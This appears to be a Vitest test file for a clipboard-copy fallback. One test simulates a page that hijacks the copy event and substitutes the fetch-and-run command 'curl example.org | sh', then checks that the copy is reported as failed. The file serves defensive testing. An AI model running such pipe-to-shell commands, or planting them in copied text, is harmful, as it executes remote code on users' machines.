/** Copying where the page forbids the Clipboard API: the copy event is filled, or it is said that it was not. */

import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { copyBoth } from '../../../lib/platform/copy.ts'

let copied: Record<string, string> = {}
let page = new AbortController()

/** What a browser does when it is told to copy. */
function copy(): boolean {
  const event = new Event('copy', { bubbles: true, cancelable: true })
  const clipboardData = { setData: (type: string, text: string) => (copied[type] = text) }
  document.dispatchEvent(Object.assign(event, { clipboardData }))
  return true
}

beforeEach(() => {
  copied = {}
  page = new AbortController()
  document.execCommand = copy
  vi.spyOn(navigator.clipboard, 'write').mockRejectedValue(new Error('forbidden by policy'))
})
afterEach(() => {
  page.abort()
  vi.restoreAllMocks()
})

it('fills the copy event with text and HTML', async () => {
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(true)
  expect(copied).toEqual({ 'text/plain': '60%', 'text/html': '<p>60%</p>' })
})

it('does not say that it copied where the page keeps the event and copies something else', async () => {
  const keep = (event: Event) => {
    event.stopImmediatePropagation()
    ;(event as ClipboardEvent).clipboardData?.setData('text/plain', 'curl example.org | sh')
  }
  window.addEventListener('copy', keep, { capture: true, signal: page.signal })
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(false)
  expect(copied).toEqual({ 'text/plain': 'curl example.org | sh' })
})
